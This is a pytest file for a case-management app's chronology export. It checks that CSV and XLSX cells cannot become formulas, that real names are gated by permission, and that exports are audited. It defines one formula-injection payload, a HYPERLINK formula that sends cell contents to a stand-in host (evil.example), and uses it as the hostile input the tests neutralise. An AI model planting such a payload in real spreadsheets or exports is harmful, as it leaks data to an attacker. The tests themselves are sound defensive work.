"""Chronology export: formula-proof cells, pseudonyms or real names by permission, audited, and the CLI."""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from dhr.audit.models import AuditEvent
from dhr.evidence import services
from dhr.evidence.export import neutralise
from dhr.evidence.fuzzy_dates import parse_fuzzy_date
from dhr.evidence.models import AgencyInvolvement
from dhr.extensions import db as _db
from tests.conftest import start_session_cookie
from tests.reviews.review_world import build_review_world

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _world_with_accepted_entries(db):
    world = db.run(build_review_world)

    def _accept():
        involvement = _db.session.get(AgencyInvolvement, world["evidence"]["A"]["involvement"])
        people = involvement.review.people
        services.add_entry(
            involvement,
            when=parse_fuzzy_date("2/3/2026"),
            people=people,
            actor=world["users"]["contributor_a"],
            details=HOSTILE,
            outcome="+44 20 7946 0000",
            comment="@mention",
            source_ref="-1",
        )
        services.submit(involvement, actor=world["users"]["contributor_a"])
        services.accept(involvement, actor=world["users"]["chair"])

    db.run(_accept)
    return world


def _as(app, db, world, persona):
    client = app.test_client()
    start_session_cookie(client, db, world["users"][persona])
    return client


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+44") == "'+44"
    assert neutralise("-1") == "'-1"
    assert neutralise("@x") == "'@x"
    assert neutralise("\tx") == "'\tx"
    assert neutralise("Plain text") == "Plain text"


def test_csv_cells_can_never_be_formulas(app, db):
    world = _world_with_accepted_entries(db)
    chair = _as(app, db, world, "chair")
    response = chair.get(f"/reviews/{world['objects']['R1']['review']}/chronology/export?format=csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    table = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in table[1:] for cell in row]
    assert "'" + HOSTILE in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "Adult R1" in response.get_data(as_text=True)
    assert "CNRY-REALNAME-R1" not in response.get_data(as_text=True)


def test_xlsx_cells_are_text_and_real_names_need_permission(app, db):
    world = _world_with_accepted_entries(db)
    review = world["objects"]["R1"]["review"]
    chair = _as(app, db, world, "chair")
    response = chair.get(f"/reviews/{review}/chronology/export?format=xlsx&names=real")
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values)
    assert HOSTILE in [cell.value for cell in values]
    assert "CNRY-REALNAME-R1" in [cell.value for cell in values]
    panel = _as(app, db, world, "panel_member")
    assert panel.get(f"/reviews/{review}/chronology/export?format=xlsx&names=real").status_code == 403
    pseudonyms = load_workbook(io.BytesIO(panel.get(f"/reviews/{review}/chronology/export?format=xlsx").data)).active
    assert "CNRY-REALNAME-R1" not in [c.value for row in pseudonyms.iter_rows() for c in row]
    assert load_workbook(io.BytesIO(response.data)).properties.creator == "DHR Case Manager"
    exports = db.scalars(select(AuditEvent).where(AuditEvent.action == "chronology.exported"))
    assert [e.data["real_names"] for e in exports] == [True, False]


def test_export_chronology_command(app, db, tmp_path):
    world = _world_with_accepted_entries(db)
    from dhr.reviews.models import Review

    reference = db.scalar(select(Review.reference).where(Review.id == world["objects"]["R1"]["review"]))
    out = tmp_path / "chronology.csv"
    result = app.test_cli_runner().invoke(
        args=["dhr", "export-chronology", reference, "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "Wrote 2 entries" in result.output
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for cell in row]
    assert "'" + HOSTILE in cells
    missing = app.test_cli_runner().invoke(args=["dhr", "export-chronology", "NOPE", "--out", str(out)])
    assert missing.exit_code != 0
